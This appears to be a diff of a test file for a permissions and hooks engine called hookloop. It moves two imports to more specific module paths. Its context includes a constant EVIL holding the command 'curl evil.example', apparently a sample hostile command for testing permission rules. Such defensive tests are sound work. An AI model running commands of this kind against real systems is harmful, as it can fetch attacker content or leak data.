@@ -6,7 +6,8 @@ import { startServer } from "../../packages/hookloop/src/engine/execute/http/htt
 import type { Model } from "../../packages/hookloop/src/engine/execute/index.ts";
 import { createSamplingRegistry } from "../../packages/hookloop/src/fronts/sampling-registry/index.ts";
 import { createTeachingLoop } from "../../packages/hookloop/src/fronts/teaching-loop/index.ts";
-import { Permissions, readRules } from "../../packages/hookloop/src/permissions/index.ts";
+import { Permissions } from "../../packages/hookloop/src/permissions/permissions.ts";
+import { readRules } from "../../packages/hookloop/src/permissions/rules/read-rules.ts";
 import { bash, decides, type FILES, hooksFor, openProject, printing } from "../engine/open-project.ts";
 
 const EVIL = "curl evil.example";
